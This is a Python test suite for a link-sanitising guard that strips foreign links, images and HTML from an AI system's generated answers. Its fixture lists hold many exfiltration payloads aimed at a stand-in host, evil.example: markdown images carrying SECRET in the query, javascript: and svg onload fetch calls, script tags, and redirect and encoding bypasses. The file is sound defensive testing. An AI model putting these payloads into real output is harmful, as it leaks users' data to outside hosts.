"""No foreign link, image or element leaves; text, code and allowed links stay."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from answerable.core.answer import Citation
from answerable.core.document import Chunk
from answerable.core.passage import Passage
from answerable.core.query import Query
from answerable.guards.links import REMOVED, LinkGuard, clean
from answerable.testing.guard import answer_of

HOSTS = ("docs.example.com",)
FOREIGN = (
    "![a](https://evil.example/p.png?q=SECRET)",
    "![a][r]\n\n[r]: https://evil.example/?q=SECRET",
    '[click][1]\n\n[1]: <https://evil.example/SECRET> "t"',
    "> [r]: //evil.example/SECRET\n\n[see][r]",
    "[report](https://evil.example/SECRET)",
    "[a](//evil.example/SECRET)",
    "[a](\\\\evil.example\\SECRET)",
    "[a](/\\evil.example/SECRET)",
    "[a](/&#47;evil.example/SECRET)",
    "[a](</\t/evil.example/SECRET>)",
    "![a](hTTps://EVIL.EXAMPLE./SECRET)",
    "![a](https://docs.example.com@evil.example/SECRET)",
    "![a](https://docs.example.com.evil.example/SECRET)",
    "[a](https://docs.example.com/redirect?u=https://evil.example/SECRET)",
    "[a](https://docs.example.com/redirect?u=https%3A%2F%2Fevil.example/SECRET)",
    "[a](https&#58;//evil.example/SECRET)",
    "[a](https://evil&period;example/SECRET)",
    "https://evil.example/SECRET",
    "<https://evil.example/SECRET>",
    "www.evil.example/SECRET",
    "mailto:a@evil.example?body=SECRET",
    "[call](tel:+1900SECRET)",
    "[a](javascript:fetch('//evil.example'))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    '<img src="https://evil.example/?q=SECRET">',
    "<IMG SRC='//evil.example/SECRET'>",
    "<svg/onload=fetch('//evil.example/SECRET')>",
    "<<b>script src=//evil.example/x>alert(1)</script>",
    "<img src=//evil.example/SECRET",
    '```mermaid\nclick A "https://evil.example/SECRET"\n```',
    "$$\\href{https://evil.example/SECRET}{x}$$",
    "`a\nb` [x](https://evil.example/SECRET) `c`",  # code spans run over lines
    "- `a\n- [x](https://evil.example/SECRET) b`",  # and do not run over list items
    "\\`[x](https://evil.example/SECRET)`",
    "- item\n\n  ```\n  code\n[x](https://evil.example/SECRET)\n  ```",
    "```\ncode\n  ```\n[x](https://evil.example/SECRET)",
    '<img alt="`" src="https://evil.example/SECRET" x="`">',
)
BENIGN = (
    "See [1] and [2].",
    "[Guide](https://docs.example.com/guide#top)",
    "Read https://docs.example.com/a, then go on.",
    "![diagram](/files/123/diagram.png)",
    "[anchor](#section-2) and [page](/help/returns?x=1)",
    "`![a](https://evil.example/x)` is how an image is written.",
    "```\n<img src=x onerror=alert(1)>\n```",
    "a < b and c > d, x -> y, 3 <= 4",
    "The formula is $a^2+b^2=c^2$.",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "Write to support@example.com for help.",
    "Footnote[^1]\n\n[^1]: plain text",
    "AT&T, 5 &amp; 6 and &lt;b&gt; as text",
    "The host evil.example is a reserved name. Ratio 3:4, path C:\\temp.",
)


JOINED = (  # what each sentence may hold alone, and all together must not
    ("A ` b [1].", "See `[x](https://evil.example/SECRET)` [2]."),
    ("A \\` b [1].", "See `[x](https://evil.example/SECRET)` [2]."),
    ("A `` b [1].", "See ``[x](https://evil.example/SECRET)`` [2]."),
    ("Please ![look [1].", "](/\\evil.example/SECRET) and go [2]."),
    ("Please [look [1].", "](//evil.example/SECRET) and go [2]."),
    ("Please [look [1].", "](https:evil.example/SECRET 'a') and go [2]."),
    ("Use <img [1].", "src=https://evil.example/SECRET x [2]."),
    ("[a][r] [1].", "\n- [r]: /\\evil.example/SECRET [2]."),
    ("``` [1].", "\n- ```[x](https://evil.example/SECRET)``` [2]."),
    ("~~~ [1].", "\n- `~~~ [x](https://evil.example/SECRET)` [2]."),
    ("<!-- [1].", "--> [x](javascript:alert(1)) [2]."),
)
PIECES = (*"<>[]()!`\\/&#;:\"' \nahtps.=-~*", "https://evil.example", "<img ", "```")


def lenient(preset: str) -> MarkdownIt:
    """A renderer that passes every address on as it is written."""
    renderer = MarkdownIt(preset, {"html": True})
    renderer.normalizeLink = lambda url: url
    renderer.validateLink = lambda url: True
    return renderer


RENDERERS = (MarkdownIt("commonmark"), lenient("commonmark"), lenient("js-default"))


class Reached(HTMLParser):
    """Elements that Markdown does not make, and addresses that lead elsewhere or run something."""

    MADE = frozenset(
        "p em strong code pre ul ol li a img h1 h2 h3 h4 h5 h6 blockquote hr br table thead tbody tr".split()
    )

    def __init__(self, markdown: str) -> None:
        super().__init__()
        self.seen: list[str] = []
        for renderer in RENDERERS:
            self.feed(renderer.render(markdown))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.MADE | {"th", "td", "s"}:
            self.seen.append(tag)
        for name, value in attrs:
            target = unquote(value or "").replace("\\", "/")
            if name.startswith("on") or (
                name in ("href", "src") and re.match(r"\s*(?:[a-z+.-]+:|//)", target, re.I)
            ):
                self.seen.append(f"{tag} {name}={target}")

    def handle_comment(self, data: str) -> None:
        self.seen.append("comment")


class Elements(HTMLParser):
    """Collects whatever a browser would take for markup."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)

    def handle_comment(self, data: str) -> None:
        self.seen.append("comment")


@pytest.mark.parametrize("text", FOREIGN)
def test_nothing_foreign_survives(text: str) -> None:
    cleaned = clean(text, HOSTS)
    for trace in ("evil.example/", "//evil", "\\evil", "://", "javascript:", "data:", "mailto:", "tel:"):
        assert trace not in cleaned.lower().replace("https://docs.example.com", "")
    assert Elements(cleaned).seen == []
    assert clean(cleaned, HOSTS) == cleaned


@pytest.mark.parametrize("text", FOREIGN)
def test_a_renderer_makes_nothing_foreign_of_it(text: str) -> None:
    assert Reached(clean(text)).seen == []


def test_the_renderers_see_what_is_foreign_before_it_is_cleaned() -> None:
    assert sum(bool(Reached(text).seen) for text in FOREIGN) >= 28  # others need a linkifier, or a drawing
    assert sum(bool(Reached(" ".join(sentences)).seen) for sentences in JOINED) >= 6


@pytest.mark.parametrize("sentences", JOINED)
def test_sentences_that_are_cleaned_one_by_one_make_nothing_foreign_together(sentences: tuple[str, ...]) -> None:
    assert Reached(" ".join(map(clean, sentences))).seen == []


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_stays_as_it_is(text: str) -> None:
    assert clean(text, HOSTS) == text


def test_link_texts_and_alternative_texts_stay_readable() -> None:
    assert clean("Ask [our team](https://evil.example/x) now.") == "Ask our team now."
    assert clean("![A red plug](https://evil.example/x.png)") == "A red plug"
    assert clean("See https://evil.example/x.") == f"See {REMOVED}."
    assert clean("[the guide][g]\n\n[g]: https://evil.example") == "the guide\n\n"


def test_elements_go_and_placeholders_stay() -> None:
    assert clean("<p>Hello <b>you</b><script>alert(1)</script></p>") == "Hello you"
    assert clean("Enter <order number> and List<String>.") == "Enter ‹order number› and List‹String›."


def test_a_url_may_stay_where_an_internal_page_shows_it_word_for_word() -> None:
    quote = "Track it at https://carrier.example/track."
    assert clean("See https://carrier.example/track.", (), quote) == "See https://carrier.example/track."
    assert "carrier" not in clean("See https://carrier.example/track?q=SECRET", (), quote)
    assert "carrier" not in clean("See https://carrier.example/tra", (), quote)


@pytest.mark.parametrize(("trust", "kept"), [("internal", True), ("public", False)])
async def test_only_an_internal_citation_vouches_for_a_link(trust: str, kept: bool) -> None:
    url = "https://carrier.example/track"
    chunk = Chunk(document_id="d", start=0, end=40, text=f"Track it at {url}.")
    citation = Citation(n=1, chunk_id=chunk.id, document_id="d", quote=chunk.text, start=0, end=40)
    answer = replace(
        answer_of(f"Track it at {url}. [1]"),
        citations=(citation,),
        passages=(Passage(chunk=chunk, score=1.0, trust=trust),),
    )
    verdict = await LinkGuard().check(Query(text="Where?", tenant="t"), answer)
    assert (verdict.action == "allow") is kept
    assert (url in (verdict.replacement or answer.text)) is kept


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(PIECES)).map("".join))
def test_pieces_of_markup_in_any_order_never_make_an_element_or_a_foreign_url_outside_of_code(text: str) -> None:
    cleaned = clean(text)
    assert clean(cleaned) == cleaned
    if "`" not in cleaned and "~~~" not in cleaned:
        assert Elements(cleaned).seen == []
        assert "https://evil" not in cleaned


@settings(deadline=None, max_examples=200)
@given(
    st.lists(st.lists(st.sampled_from(PIECES)).map("".join), min_size=2, max_size=4),
    st.sampled_from((" ", "\n- ")),
)
def test_no_order_of_cleaned_sentences_is_a_foreign_link_for_a_renderer(sentences: list[str], gap: str) -> None:
    assert Reached(gap.join(clean(" ".join(one.split())) for one in sentences)).seen == []


@pytest.mark.parametrize(
    "target",
    [
        "https://shop.example/r?u=//evil.example",
        "https://shop.example/r?u=%2F%2fevil.example",
        "https://shop.example/r?u=http%253A%252F%252Fevil.example",
        "/out?next=%2F%2Fevil.example",
        "/out?next=http%253A%252F%252Fevil.example",
    ],
)
def test_no_allowed_host_is_asked_to_lead_on_to_another(target):
    assert clean(f"See [there]({target}).", ("shop.example",)) == "See there."


@pytest.mark.parametrize("target", ["https://shop.example/r?q=a%2Fb&u=c//d", "/returns?from=a%2Fb"])
def test_an_address_with_a_slash_in_its_query_stays(target):
    assert clean(f"See [there]({target}).", ("shop.example",)) == f"See [there]({target})."
